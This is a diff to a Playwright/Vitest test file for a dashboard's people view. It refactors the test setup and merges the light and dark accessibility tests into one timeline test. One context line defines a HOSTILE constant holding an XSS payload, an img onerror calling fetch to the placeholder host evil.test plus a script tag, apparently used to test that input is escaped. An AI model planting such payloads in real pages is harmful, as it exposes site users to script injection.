@@ -1,13 +1,10 @@
 import type { Page } from 'playwright-core'
-import { beforeAll, expect, test } from 'vitest'
-import { type Dashboard, openDashboard, settled, violations } from './dashboard.ts'
+import { expect, test } from 'vitest'
+import { settled, useDashboard, violations } from './dashboard.ts'
 
 /** The view of people finds a person, shows what the API knows of them, and erases them. */
 
-let dashboard: Dashboard
-beforeAll(async () => {
-  dashboard = await openDashboard()
-})
+const dashboard = useDashboard()
 
 const HOSTILE = `"><img src=x onerror="fetch('https://evil.test')"><script>document.title='owned'</script>`
 
@@ -115,10 +112,8 @@ test('a person is erased after their id is typed, and the receipt stands in thei
   expect(events).toEqual([])
 })
 
-test.each(['light', 'dark'] as const)('people are accessible, %s', async colorScheme => {
-  const page = await dashboard.open('/app/p/demo/people', { colorScheme })
-  await settled(page)
-  expect(await violations(page)).toEqual([])
+test('the time line of a person is accessible, light and dark', async () => {
+  const page = await dashboard.open('/app/p/demo/people')
   await page.getByRole('table', { name: 'People by events' }).getByRole('link').first().click()
   await page.getByRole('list', { name: 'Events of the person' }).waitFor()
   await settled(page)
